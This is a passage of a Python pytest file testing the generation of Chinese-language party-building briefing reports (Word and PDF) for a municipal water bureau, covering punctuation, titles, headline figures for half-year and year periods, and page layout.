    assert out.chinese_punctuation("党员总数(含预备)1,272人; 10:30 (Q4)") == "党员总数（含预备）1,272人； 10:30 (Q4)"


def test_an_english_briefing_stays_english(store, tmp_path):
    facts = briefing.gather(store, "SW", QUARTER, lang="en")
    document = Document(io.BytesIO(out.document(facts)))
    lang = document.styles.element.find(qn("w:docDefaults")).find(f"{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:lang')}")
    assert lang.get(qn("w:val")) == "en-US"
    assert any("Party members (incl. probationary)" in p.text for p in document.paragraphs)


# --- a half-year and a year -------------------------------------------------------------------------------------


@pytest.mark.parametrize("period, label, previous", [("2024H1", "2024年上半年", "2023年下半年"),
                                                       ("2024", "2024年度", "2023年度")])
def test_half_year_and_year_briefings(demo_db, tmp_path, monkeypatch, period, label, previous):
    """The circular of a half-year or a year: its title, the returns due in every quarter of it, and
    the headline figures with the overview's rules for the period (headlines.figures, by half or year)."""
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))
    target = tmp_path / f"{period}.docx"
    assert cli.main(["briefing", "--db", str(demo_db), "--unit", "SW", "--period", period.lower(),
                     "--out", str(target)]) == cli.EXIT_OK
    document = Document(str(target))
    title = next(p for p in document.paragraphs if p.style.name == "Title").text.replace("\n", "")
    assert title == f"市水务局党组关于{label}党建工作情况的通报"
    quarters = periods.quarters_of(period)
    with Store(demo_db) as store:
        history = store.history()
        heads = briefing.headline_figures(store.query, history, store.catalog, ["SW"], quarters[-1],
                                          granularity=periods.granularity_of(period))
        status = store.query("submission_status", **analysis.expected_returns(history, ["SW"], quarters, whole=True))
        cat = store.catalog
    overview = [c for k, _, c in section(document, "总体情况") if k == "p"]
    due, done = len(status), int(status["status"].isin(["submitted", "late"]).sum())
    assert overview[0].startswith(f"{label}各季度应报报表{due}份，已报{done}份")
    rows = {r[0]: r for r in next(c for k, _, c in section(document, "总体情况") if k == "table")[1:]}
    shown = 0
    for _, h in heads.iterrows():
        if pd.isna(h["value"]):
            continue
        ind = cat[h["indicator_code"]]
        row = rows[out.chinese_punctuation(ind.name_zh)]
        assert abs(number(row[2]) - h["value"]) <= tolerance(ind.value_type), ind.code
        shown += 1
    assert shown >= 4
    if period == "2024H1":
        assert f"较{previous}" in overview[1]


@pytest.mark.parametrize("gran, span, period", [("half", ["2024Q1", "2024Q2"], "2024H1"),
                                                ("year", ["2024Q1", "2024Q4"], "2024")])
def test_the_overview_and_its_briefing_agree_for_a_half_year_and_a_year(demo_db_file, tmp_path, monkeypatch, gran,
                                                                       span, period):
    """The overview showing a half-year or a year offers that period's 通报, and each headline card's
    figure is the figure in the 通报's table (both from headlines.figures, by half or year)."""
    from tests.support.apptest import assert_clean, forget, open_app

    path = tmp_path / "app.duckdb"
    shutil.copy(demo_db_file, path)
    monkeypatch.setenv("DANGJIAN_DB", str(path))
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))
    try:
        at = open_app(unit=["SW"], period=span, gran=gran)
        assert_clean(at)
        label = periods.report_label(period)
        assert any(b.proto.label == f"下载{label}通报（Word）" for b in at.get("download_button"))
        cards = {m.label: m.value for m in at.metric}
    finally:
        forget()
    with Store(path) as store:
        facts = briefing.gather(store, "SW", period)
    document = Document(io.BytesIO(out.document(facts)))
    rows = {r[0]: r for r in next(c for k, _, c in section(document, "总体情况") if k == "table")[1:]}
    cat = catalog()
    compared = 0
    for ind in cat.headlines:  # the overview's cards: the domains leadership put on it
        card = cards[charts.with_unit(ind.name_zh, ind.unit_zh, "zh")]
        row = rows.get(out.chinese_punctuation(ind.name_zh))
        if row is None:  # no figure: the card says its state, the 通报 leaves it out
            assert not re.search(r"\d", card), (ind.code, card)
            continue
        assert card == row[2], (ind.code, card, row)
        compared += 1
    assert compared >= 4


@OFFICE
@pytest.mark.parametrize("period", ["2024H1", "2024"])
def test_a_half_year_and_a_year_render_with_the_colophon_on_an_even_last_page(store, period, tmp_path, monkeypatch):
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))  # the layout, not the charts
    facts = briefing.gather(store, "SW", period)
    pdf, text, pages = render(out.document(facts), f"通报_{period}")
    assert len(pages) % 2 == 0 and "印发" in text[-1]
    assert f"市水务局党组关于{periods.report_label(period)}党建工作情况的通报" in re.sub(r"\s+", "", text[0])
